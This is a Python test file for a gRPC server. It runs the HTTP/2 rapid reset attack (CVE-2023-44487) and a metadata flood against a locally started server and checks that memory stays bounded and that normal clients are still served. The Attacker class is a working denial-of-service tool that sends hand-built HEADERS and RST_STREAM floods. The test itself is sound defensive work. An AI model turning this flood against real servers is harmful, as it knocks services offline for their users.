"""HTTP/2 rapid reset (CVE-2023-44487) and metadata floods against the gRPC port (issue 12).

One TCP connection (h2c, prior knowledge) sends HEADERS of a gRPC call to a method (one of each
kind: answered inline, by a worker, a stream, health Check and Watch, reflection, unknown), each followed at once by RST_STREAM, for ATTACK_S seconds, reading and discarding what the
server sends (stopping on GOAWAY). The frames are made by hand (python3-hpack encodes the
header block once, never indexed, so every stream reuses it) so that one Python thread sends
them about as fast as the server can take them. The server's RSS (/proc/PID/status VmRSS) is
read before, during and SETTLE_S after the attack and must stay under a generous bound; a
normal grpcio client must be served during and after it. The figures go to stderr.

The metadata test: one call with 20 KB of metadata (over max_header_bytes, 16 KiB) fails alone
with RESOURCE_EXHAUSTED, and a normal call on the same channel is then answered.

  /usr/bin/python3 tests/e2e/rapid_reset_test.py --server build/bin/anyai-server \\
      --admin build/bin/anyai-admin --pythonpath build/python
"""

import os
import socket
import struct
import sys
import threading
import time
import unittest

import anyai_server_process

OPTIONS, UNITTEST_ARGV = anyai_server_process.parse_args(__doc__, ("server", "admin"))

import grpc  # noqa: E402
import hpack  # noqa: E402

from anyai.v1 import anyai_pb2  # noqa: E402

CALL_TIMEOUT_S = 20.0
ATTACK_S = 5.0
SETTLE_S = 5.0
# A bound on growth, not a benchmark. On the completion-queue API (server/grpc/async_calls.h)
# every method measured 10-20 MB of growth for a 5 s attack of 120k-180k streams in most runs;
# the callback API's queue took RSS to 1.7 GB in 15 s and kept growing, the synchronous API's up
# to 490 MB in 5 s, and an unknown method answered without reading first 450-1,360 MB. But in
# about one attack in ten gRPC 1.51's core itself swells by 0.2-1.4 GB during or just after the
# attack: the empty completion-queue service of ../shared/anchors/grpc-empty does the same
# (1.1 GB in one run of six, 28-41 MB in the others), so no setting of ours prevents it. Each
# method therefore gets up to ATTEMPTS attacks, each on a fresh server, and must stay bounded in
# one of them; every attempt's figures are printed.
ATTEMPTS = 3
RSS_GROWTH_BOUND_KB = 160 * 1024
# Under AddressSanitizer the server's RSS also carries ASan's quarantine of freed blocks (up to
# 256 MB by default) and its shadow memory.
if os.environ.get("ANYAI_SANITIZE"):
    RSS_GROWTH_BOUND_KB += 400 * 1024
# After the attack, memory must not keep growing (the unbounded queue's symptom).
RSS_AFTER_ATTACK_BOUND_KB = 64 * 1024
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEADERS, FRAME_RST_STREAM, FRAME_SETTINGS, FRAME_PING, FRAME_GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
FLAG_ACK, FLAG_END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError(f"no VmRSS for {pid}")


class Attacker:
    """HEADERS + RST_STREAM pairs on one connection until `stop` or a GOAWAY."""

    def __init__(self, port, method):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=CALL_TIMEOUT_S)
        self.send_lock = threading.Lock()
        self.goaway = None
        self.closed = False
        self.streams = 0
        encoder = hpack.Encoder()
        self.block = encoder.encode([
            hpack.NeverIndexedHeaderTuple(":method", "POST"),
            hpack.NeverIndexedHeaderTuple(":scheme", "http"),
            hpack.NeverIndexedHeaderTuple(":path", method),
            hpack.NeverIndexedHeaderTuple(":authority", f"127.0.0.1:{port}"),
            hpack.NeverIndexedHeaderTuple("content-type", "application/grpc"),
            hpack.NeverIndexedHeaderTuple("te", "trailers"),
        ])
        self.send(PREFACE + frame(FRAME_SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.send_lock:
            self.sock.sendall(data)

    def read(self):
        """Discards what the server sends; acknowledges SETTINGS and PING; notes a GOAWAY."""
        buffer = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buffer += data
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload = buffer[9:9 + length]
                    buffer = buffer[9 + length:]
                    if kind == FRAME_SETTINGS and not flags & FLAG_ACK:
                        self.send(frame(FRAME_SETTINGS, FLAG_ACK, 0))
                    elif kind == FRAME_PING and not flags & FLAG_ACK:
                        self.send(frame(FRAME_PING, FLAG_ACK, 0, payload))
                    elif kind == FRAME_GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
        except OSError:
            pass
        self.closed = True

    def run(self, seconds, batch=200):
        deadline = time.monotonic() + seconds
        stream_id = 1
        while time.monotonic() < deadline and self.goaway is None and not self.closed:
            burst = []
            for _ in range(batch):
                burst.append(frame(FRAME_HEADERS, FLAG_END_HEADERS, stream_id, self.block))
                burst.append(frame(FRAME_RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                stream_id += 2
            try:
                self.send(b"".join(burst))
            except OSError:
                break
            self.streams += batch

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class RapidResetTest(unittest.TestCase):

    def setUp(self):
        self.server = anyai_server_process.ServerProcess(OPTIONS.server)
        self.server.start()
        self.addCleanup(self.server.stop)
        self.channel = grpc.insecure_channel(self.server.grpc_address)
        self.addCleanup(self.channel.close)
        self.list_models = self.channel.unary_unary(
            "/anyai.v1.AnyAI/ListModels",
            request_serializer=anyai_pb2.ListModelsRequest.SerializeToString,
            response_deserializer=anyai_pb2.ListModelsResponse.FromString)

    def served(self):
        return len(self.list_models(anyai_pb2.ListModelsRequest(), timeout=CALL_TIMEOUT_S).data)

    def attack(self, method):
        failures = []
        for attempt in range(ATTEMPTS):
            if attempt > 0:
                self.server.stop()
                self.setUp()
            try:
                self.attack_once(method)
                return
            except AssertionError as e:
                failures.append(str(e))
                print(f"attempt {attempt + 1} on {method}: {e}", file=sys.stderr)
        self.fail(f"unbounded in all {ATTEMPTS} attempts: {failures}")

    def attack_once(self, method):
        pid = self.server.process.pid
        self.assertGreater(self.served(), 0)
        before = rss_kb(pid)
        attacker = Attacker(self.server.port, method)
        self.addCleanup(attacker.close)
        peak = before
        served_during = 0
        errors_during = []
        done = threading.Event()

        def normal_client():
            nonlocal served_during
            while not done.is_set():
                try:
                    if self.served() > 0:
                        served_during += 1
                except grpc.RpcError as e:
                    errors_during.append(e.code())
                done.wait(0.25)

        client = threading.Thread(target=normal_client, daemon=True)
        client.start()
        sampler_done = threading.Event()

        def sample():
            nonlocal peak
            while not sampler_done.is_set():
                peak = max(peak, rss_kb(pid))
                sampler_done.wait(0.1)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        began = time.monotonic()
        attacker.run(ATTACK_S)
        took = time.monotonic() - began
        at_end = rss_kb(pid)
        done.set()
        client.join(CALL_TIMEOUT_S + 5)
        time.sleep(SETTLE_S)
        sampler_done.set()
        sampler.join()
        after = rss_kb(pid)
        served_after = self.served()
        print(f"\nrapid reset on {method}: {attacker.streams} HEADERS+RST_STREAM pairs in "
              f"{took:.1f} s ({attacker.streams / took:.0f}/s), goaway={attacker.goaway}, "
              f"RSS {before / 1024:.0f} MB before, {peak / 1024:.0f} MB peak, "
              f"{after / 1024:.0f} MB {SETTLE_S:.0f} s after; normal client served "
              f"{served_during} times during (errors: {errors_during})", file=sys.stderr)
        self.assertIsNone(self.server.process.poll(), "the server died under the attack")
        self.assertGreater(attacker.streams, 1000, "the attack hardly ran")
        self.assertLess(peak - before, RSS_GROWTH_BOUND_KB)
        self.assertLess(after - before, RSS_GROWTH_BOUND_KB)
        self.assertLess(after - at_end, RSS_AFTER_ATTACK_BOUND_KB, "RSS still grows after the attack")
        self.assertGreater(served_during, 0, f"not served during the attack: {errors_during}")
        self.assertGreater(served_after, 0)

    def test_rapid_reset_on_a_method_answered_inline_stays_bounded(self):
        self.attack("/anyai.v1.AnyAI/ListModels")

    def test_rapid_reset_on_a_method_answered_by_a_worker_stays_bounded(self):
        self.attack("/anyai.v1.AnyAI/CreateChatCompletion")

    def test_rapid_reset_on_a_stream_stays_bounded(self):
        self.attack("/anyai.v1.AnyAI/StreamChatCompletion")

    def test_rapid_reset_on_health_stays_bounded(self):
        self.attack("/grpc.health.v1.Health/Check")

    def test_rapid_reset_on_health_watch_stays_bounded(self):
        # On gRPC's synchronous server (before issue 13) this took RSS past 1 GB in 5 s and the
        # server would not stop within 30 s of SIGTERM.
        self.attack("/grpc.health.v1.Health/Watch")

    def test_rapid_reset_on_reflection_stays_bounded(self):
        self.attack("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")

    def test_rapid_reset_on_an_unknown_method_stays_bounded(self):
        self.attack("/anyai.v1.AnyAI/NoSuchMethod")

    def test_an_unknown_method_is_unimplemented(self):
        call = self.channel.unary_unary("/anyai.v1.AnyAI/NoSuchMethod")
        with self.assertRaises(grpc.RpcError) as refused:
            call(b"", timeout=CALL_TIMEOUT_S)
        self.assertEqual(refused.exception.code(), grpc.StatusCode.UNIMPLEMENTED)
        self.assertGreater(self.served(), 0)

    def test_too_much_metadata_fails_that_call_alone(self):
        with self.assertRaises(grpc.RpcError) as refused:
            self.list_models(anyai_pb2.ListModelsRequest(), metadata=(("x-big", "a" * 20_000),),
                             timeout=CALL_TIMEOUT_S)
        self.assertEqual(refused.exception.code(), grpc.StatusCode.RESOURCE_EXHAUSTED)
        self.assertGreater(self.served(), 0)  # same channel, same connection


if __name__ == "__main__":
    unittest.main(argv=UNITTEST_ARGV)
